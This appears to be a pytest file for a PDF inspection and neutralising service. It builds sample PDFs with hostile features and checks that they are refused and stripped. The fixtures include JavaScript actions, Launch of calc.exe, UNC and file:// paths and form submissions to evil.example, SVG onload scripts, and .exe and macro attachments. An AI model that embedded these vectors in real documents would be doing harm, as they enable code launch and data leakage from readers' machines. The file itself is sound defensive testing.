"""What a PDF may do: what is refused, what its owner keeps, and the copy in which nothing acts (ADR 24)."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Name, String

from services.documents.usecases.inspection.active import opens_elsewhere
from services.documents.usecases.inspection.findings import Finding
from services.documents.usecases.inspection.neutralising import neutralise
from services.documents.usecases.inspection.pdf import inspect_pdf
from tests.unit.documents import files, kinds

Change = Callable[[pikepdf.Pdf], None]


def clicked(action: Dictionary) -> Change:
    """A link that does this when somebody clicks on it."""

    def change(made: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        made.pages[0].obj.Annots = Array([made.make_indirect(link)])

    return change


def field(action: Dictionary, trigger: str = "/A", indirect: bool = False) -> Change:
    """A form whose field does this when somebody fills it in."""

    def change(made: pikepdf.Pdf) -> None:
        does = made.make_indirect(Dictionary(dict(action.items()))) if indirect else action
        widget = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("d"), V=String("1"), Rect=[0, 0, 9, 9]
        )
        widget["/A" if trigger == "/A" else "/AA"] = does if trigger == "/A" else Dictionary({trigger: does})
        kept = made.make_indirect(widget)
        made.pages[0].obj.Annots = Array([kept])
        made.Root.AcroForm = Dictionary(Fields=Array([kept]))

    return change


def opened(action: Dictionary) -> Change:
    """A document that does this by itself."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action

    return change


def attached(name: str, content: bytes) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments[name] = content

    return change


def xfa(content: bytes) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = Dictionary(XFA=made.make_stream(content), Fields=Array())

    return change


def script(text: str = "AFDate_FormatEx('dd/mm/yyyy');") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def shared_with_opening(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(script())
    field(action, "/F")(made)
    made.Root.OpenAction = action


def behind_many_others(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(script())
    field(action, "/F")(made)
    for _ in range(300):
        action = made.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage, Next=action))
    made.Root.OpenAction = action


def in_a_circle(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
    action.Next = action
    made.Root.OpenAction = action


def external_stream(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"")
    stream.stream_dict["/F"] = String("\\\\evil\\share\\x")
    made.pages[0].obj.Contents = stream


def go(kind: str, target: object) -> Dictionary:
    return Dictionary(S=Name(kind), F=target)


UNC = String("\\\\evil.example\\share\\a.pdf")
REFUSED: dict[str, Change] = {
    "script of a link": clicked(script()),
    "script in UTF-16": clicked(script("app.alert('é€')")),
    "script of a document": opened(script()),
    "field's script on opening": field(script(), "/PO"),
    "one script for both": shared_with_opening,
    "one script for both, behind many others": behind_many_others,
    "actions in a circle": in_a_circle,
    "launch": clicked(go("/Launch", String("calc.exe"))),
    "launch by a field": field(go("/Launch", String("calc.exe"))),
    "file address": clicked(Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe"))),
    "file address, disguised": clicked(Dictionary(S=Name.URI, URI=String(" f\til\ne://evil.example/x"))),
    "script address": clicked(Dictionary(S=Name.URI, URI=String("JavaScript:alert(1)"))),
    "program's address": clicked(Dictionary(S=Name.URI, URI=String("search-ms:query=x"))),
    "path of another machine": clicked(Dictionary(S=Name.URI, URI=UNC)),
    "other document there": clicked(go("/GoToR", UNC)),
    "other document on the web": clicked(go("/GoToR", Dictionary(FS=Name.URL, F=String("https://evil.example/a.pdf")))),
    "other document in UTF-16": clicked(go("/GoToR", Dictionary(UF=String("\\\\evil\\é€\\a.pdf")))),
    "embedded document there": clicked(go("/GoToE", UNC)),
    "data from there": field(go("/ImportData", UNC)),
    "form to there": field(go("/SubmitForm", UNC)),
    "form to a file": field(go("/SubmitForm", Dictionary(FS=Name.URL, F=String("file://evil.example/a")))),
    "form by itself": opened(go("/SubmitForm", Dictionary(FS=Name.URL, F=String("https://evil.example/")))),
    "stream there": external_stream,
    "scripts in UTF-16 of a dynamic form": xfa("<template><script>1</script></template>".encode("utf-16")),
    "program": attached("facture.pdf.exe", b"x"),
    "page with script": attached("page.html", b"<html><script>1</script>"),
    "page with script in UTF-16": attached("page.html", "<html><script>1</script>".encode("utf-16-le")),
    "picture with script": attached("logo.svg", b"<svg onload=alert(1)>"),
    "macros by name": attached("releve.docm", b"x"),
    "macros by content": attached("releve.docx", files.archive("word/vbaProject.bin")),
    "program in an archive": attached("pieces.zip", files.archive("lisez-moi.exe")),
}

KEPT: dict[str, Change] = {
    "format of a date": field(script(), "/F"),
    "calculation": field(script("AFSimple_Calculate('SUM', ['a']);"), "/C", indirect=True),
    "print button": field(script("this.print();")),
    "script with accents": field(script("app.alert('à compléter €')"), "/K"),
    "form to the web": field(go("/SubmitForm", Dictionary(FS=Name.URL, F=String("https://ecole.example/form")))),
    "form by mail": field(go("/SubmitForm", String("mailto:ecole@example.org"))),
    "link": clicked(Dictionary(S=Name.URI, URI=String("https://example.org/"))),
    "mail": clicked(Dictionary(S=Name.URI, URI=String("mailto:a@example.org"))),
    "chapter beside it": clicked(go("/GoToR", String("chapitre2.pdf"))),
    "style sheet": attached("latex-list-css.html", b"<style>ol { list-style: none }</style>"),
    "source": attached("lettre.odt", files.archive("content.xml")),
    "invoice": attached("factur-x.xml", b"<a/>"),
}
SAFE_LINKS = ("link", "mail")


@pytest.mark.parametrize("what", REFUSED)
def test_what_acts_by_itself_or_leads_elsewhere_is_refused(what: str) -> None:
    """Acceptance 106, 108."""
    assert inspect_pdf(files.pdf_with(REFUSED[what])).finding is Finding.ACTIVE


@pytest.mark.parametrize("what", KEPT)
def test_what_people_need_is_taken(what: str) -> None:
    """Acceptance 106, 126."""
    assert inspect_pdf(files.pdf_with(KEPT[what])).finding is None


@pytest.mark.parametrize("what", [*REFUSED, *KEPT])
def test_nothing_acts_in_the_copy_that_others_see(what: str) -> None:
    """Also of files that are refused today, should they be taken one day."""
    copy = neutralise(files.pdf_with({**REFUSED, **KEPT}[what]))
    assert inspect_pdf(copy).finding is None
    with pikepdf.open(io.BytesIO(copy)) as pdf:
        text = b"".join(one.unparse(resolved=True) for one in pdf.objects if isinstance(one, Dictionary | Array))
        assert not pdf.attachments
    for word in (b"/JS", b"/Launch", b"/GoToR", b"/GoToE", b"/SubmitForm", b"/ImportData", b"/XFA", b"/EF", b"evil"):
        assert word not in text
    assert (b"/URI" in text) is (what in SAFE_LINKS)


@pytest.mark.parametrize(
    "name",
    ["04-libreoffice-hybrid.pdf", "05-latex-tagged-css-attachment.pdf", "08-signed-and-owner-encrypted.pdf",
     "14-form-date-format-script.pdf", "ok-signed.pdf"],
)  # fmt: skip
def test_the_copy_looks_as_the_file_does(name: str) -> None:
    content = (Path(kinds.INPUTS) / name).read_bytes()
    copy = neutralise(content)
    assert shown(copy) == shown(content)
    with pikepdf.open(io.BytesIO(copy)) as pdf:
        assert not pdf.is_encrypted


def shown(content: bytes) -> list[bytes]:
    with pypdfium2.PdfDocument(content) as pdf:
        return [page.render(grayscale=True).to_pil().tobytes() for page in pdf]


@pytest.mark.parametrize(
    ("target", "elsewhere"),
    [
        ("chapitre2.pdf", False),
        ("../annexes/b.pdf", False),
        ("https://example.org/a:b", False),
        ("//evil/share", True),
        ("\\\\evil\\share", True),
        ("\u200b\\\\evil\\share", True),
        ("FILE:///etc/passwd", True),
        ("ms-word:ofe|u|https://evil.example/", True),
        ("data:text/html,x", True),
    ],
)
def test_where_a_path_leads(target: str, elsewhere: bool) -> None:
    assert opens_elsewhere(target) is elsewhere
